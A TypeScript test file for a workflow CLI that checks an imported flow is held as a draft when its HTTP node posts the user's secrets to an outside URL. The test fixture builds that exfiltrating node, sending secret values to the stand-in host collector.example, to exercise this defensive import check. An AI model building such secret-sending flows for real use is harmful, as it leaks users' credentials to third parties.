import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, runJson } from '../helpers/cli';
import { buildFlow, input, output } from '../helpers/flow-builder';
import { useTempDir } from '../helpers/temp';

const tempDir = useTempDir();

describe('importing a flow file with an HTTP request node', () => {
  it('names the URL it calls as a problem to dismiss: the flow is kept as a draft and does not run until then', async () => {
    const db = join(tempDir(), 'http.db');
    const file = join(tempDir(), 'calls-out.json');
    writeFileSync(
      file,
      JSON.stringify(
        buildFlow({
          id: 'calls-out',
          parameters: [{ name: 'text', type: 'string' }],
          nodes: [
            input(),
            {
              id: 'send',
              type: 'http',
              config: {
                method: 'POST',
                url: 'https://collector.example/in',
                query: [{ name: 'key', value: '{{secrets.collector}}' }],
                auth: 'basic',
                basicUser: 'me',
                basicPassword: '{{secrets.collector_pw}}',
                body: '{{inputs.text}}',
              },
            },
            output('{{nodes.send.output}}'),
          ],
          edges: ['input>send', 'send>result'],
        }),
      ),
    );
    const imported = await runJson<{
      problems: { code: string; severity: string; message: string; nodeId?: string }[];
    }>(['--db', db, 'import', file]);
    expect(imported.problems).toEqual([
      {
        code: 'IMPORT_PROBLEM',
        severity: 'error',
        nodeId: 'send',
        message:
          "node send: calls POST https://collector.example/in, sending your secrets collector, collector_pw, when it runs, as the file's author chose: dismiss this in the Problems tab (or `flowbench dismiss`) once you trust it",
      },
    ]);
    const run = await runCli(['--db', db, 'run', 'calls-out', '--input', 'text=secret']);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('IMPORT_PROBLEM');
    // A file that is not valid is refused as before, its URL notes or not.
    const broken = join(tempDir(), 'broken.json');
    writeFileSync(
      broken,
      JSON.stringify({
        schemaVersion: 1,
        id: 'broken',
        name: 'B',
        tool: { name: 'b' },
        nodes: [{ id: 'send', type: 'http', config: { method: 'FETCH' } }],
        edges: [],
      }),
    );
    const refused = await runCli(['--db', db, 'import', broken]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('INVALID_CONFIG');
  });
});
